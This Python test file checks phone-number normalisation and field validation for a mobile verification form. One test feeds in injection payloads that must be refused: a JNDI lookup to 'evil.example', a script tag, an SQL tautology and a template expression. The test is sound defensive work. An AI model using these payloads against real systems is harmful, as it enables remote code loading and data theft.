"""What the page hands over: the number as people type and paste it, and the alphabets of the rest."""

import json
import re
from pathlib import Path
from typing import Final

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from cmpassport.members import FieldError, InvalidMembersError
from verify.submission import MAX_TYPED_CHARACTERS, Submission, normalise

ANY_NUMBER = st.from_regex(r"1[3-9][0-9]{9}", fullmatch=True)
NUMBERS: Final[dict[str, list[str]]] = json.loads(
    (Path(__file__).parents[1] / "vectors" / "numbers.json").read_text()
)
"""The client's rule too."""
DROPPED = (
    " \t\u00a0\u2002\u2003\u2007\u2009\u202f\u3000-\u2010\u2011\u2012\u2013\u2014\u2212\uff0d\u00ad"
    "\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2060\u2066\u2067\u2068\u2069\ufeff"
)
SEPARATORS = st.sampled_from(
    ["", " ", "-", "\u00a0", "\u3000", "\u2011", "\u2013", "\u2212", "\uff0d", "\u202c"]
)


@pytest.mark.parametrize("typed", NUMBERS["13912345678"])
def test_a_number_is_brought_to_its_11_digits(typed: str) -> None:
    assert normalise(typed) == "13912345678"


@pytest.mark.parametrize("second", "3456789")
def test_every_mobile_prefix_of_the_mainland_is_accepted(second: str) -> None:
    assert normalise(f"1{second}000000000") == f"1{second}000000000"


@pytest.mark.parametrize("typed", NUMBERS["refused"])
def test_what_is_not_a_mainland_mobile_number_is_refused(typed: str) -> None:
    assert normalise(typed) is None


# Every character that is neither dropped nor read as another makes a number another text.
@pytest.mark.parametrize("place", [0, 3, 11])
def test_no_other_character_is_passed_over(place: int) -> None:
    number = "13912345678"
    passed_over = {
        chr(code)
        for code in range(0x10000)
        if normalise(f"{number[:place]}{chr(code)}{number[place:]}") == number
    }

    assert passed_over == set(DROPPED) | (set(".\uff0e") if place == 3 else set())


def test_a_text_longer_than_anybody_types_is_refused() -> None:
    padding = MAX_TYPED_CHARACTERS - 11

    assert normalise("13912345678" + " " * padding) == "13912345678"
    assert normalise("13912345678" + " " * (padding + 1)) is None


@given(st.text())
@example("\ud800")
@example("+86" * 20)
def test_any_text_gives_a_number_or_nothing(typed: str) -> None:
    number = normalise(typed)

    assert number is None or re.fullmatch(r"1[3-9][0-9]{9}", number, re.ASCII)


@given(st.text(alphabet="+0123456789 -８６\u3000\u202d", max_size=20))
def test_to_normalise_twice_is_to_normalise_once(typed: str) -> None:
    number = normalise(typed)

    assert number is None or normalise(number) == number


@given(ANY_NUMBER, st.sampled_from(["", "+86", "0086"]), st.lists(SEPARATORS, min_size=11, max_size=11))
def test_separators_may_stand_anywhere(number: str, country: str, separators: list[str]) -> None:
    typed = country + "".join(gap + digit for gap, digit in zip(separators, number, strict=True))

    assert normalise(typed) == number


# The other members.

FIELDS: Final = {"phoneNum": "13912345678", "token": "VM_1", "userInformation": "a%2Bb"}
LETTERS: Final = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
ALPHABETS: Final = {
    "token": LETTERS + "_-",
    "userInformation": LETTERS + "%+/=._~-",
    "expandParams": LETTERS + "%+/=._~|-",
    "nonce": "".join(map(chr, range(0x21, 0x7F))),
}
BOUNDS: Final = {"token": 1024, "userInformation": 8192, "expandParams": 8192, "nonce": 256}


def refused(**changes: object) -> list[FieldError]:
    try:
        Submission.from_fields({**FIELDS, **changes})
    except InvalidMembersError as error:
        return list(error.errors)
    return []


@pytest.mark.parametrize("name", ALPHABETS)
def test_a_member_has_its_alphabet(name: str) -> None:
    accepted = {chr(code) for code in range(0x180) if not refused(**{name: f"a{chr(code)}"})}

    assert accepted == set(ALPHABETS[name])


@pytest.mark.parametrize("name", BOUNDS)
def test_a_member_has_its_bound(name: str) -> None:
    assert refused(**{name: "a" * BOUNDS[name]}) == []
    assert [error.field for error in refused(**{name: "a" * (BOUNDS[name] + 1)})] == [name]


@pytest.mark.parametrize("name", ["token", "userInformation", "nonce"])
def test_a_member_is_not_empty(name: str) -> None:
    assert [error.field for error in refused(**{name: ""})] == [name]


@pytest.mark.parametrize(
    "text",
    ["${jndi:ldap://evil.example/a}", "<script>", "' OR '1'='1", "a\nb", "号码", "a b", '"', "{{7*7}}"],
)
@pytest.mark.parametrize("name", ["token", "userInformation", "expandParams"])
def test_an_attack_on_whoever_reads_next_goes_no_further(name: str, text: str) -> None:
    errors = refused(**{name: text})

    assert [error.field for error in errors] == [name]
    assert text not in errors[0].reason


def test_every_member_that_is_wrong_is_named() -> None:
    wrong = {"phoneNum": "1", "token": "", "userInformation": "号", "expandParams": "号", "nonce": ""}

    assert [error.field for error in refused(**wrong)] == list(wrong)
    assert [error.field for error in refused(**wrong, more=1)] == [""]  # unknown members first


def test_what_is_not_sent_is_none() -> None:
    submission = Submission.from_fields(FIELDS)

    assert (submission.expand_params, submission.nonce, submission.device) == (None, None, None)
    assert Submission.from_fields({**FIELDS, "expandParams": ""}).expand_params == ""


def test_nothing_personal_is_shown() -> None:
    submission = Submission.from_fields({**FIELDS, "expandParams": "planted", "nonce": "n1", "device": "d1"})

    assert repr(submission) == "Submission()"
